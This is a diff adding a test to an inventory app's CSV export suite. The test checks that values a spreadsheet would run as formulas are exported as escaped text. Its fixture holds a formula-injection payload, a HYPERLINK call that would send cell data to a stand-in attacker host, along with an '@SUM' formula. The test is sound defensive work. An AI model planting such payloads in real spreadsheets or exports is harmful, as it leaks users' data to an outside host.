@@ -320,6 +320,17 @@ describe('the list and its export', () => {
     expect(lines[1]).toBe(`${tagOf};Printer;${model};;Deployable;;;;;;2500000;;"Label printer; hangar"`);
     expect((await call(inventoryExport, { token: admin, query: { status: 'nope' } })).status).toBe(400);
   });
+
+  it('writes a cell a spreadsheet would run as a formula as text (issue 39)', async () => {
+    const model = `Formula ${process.pid}-${++counter}`;
+    const notes = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
+    await createAsset({ category: 'other', model, location: '@SUM(1+1)', notes, purchase_cost: 1250000 });
+    const res = await call(inventoryExport, { token: admin, query: { q: model } });
+    const cells = res.text.trim().split('\r\n')[1].split(';');
+    expect(cells.at(-1)).toBe(`"'${notes.replaceAll('"', '""')}"`);
+    expect(cells[8]).toBe("'@SUM(1+1)");
+    expect(cells[10]).toBe('1250000');
+  });
 });
 
 describe('access', () => {
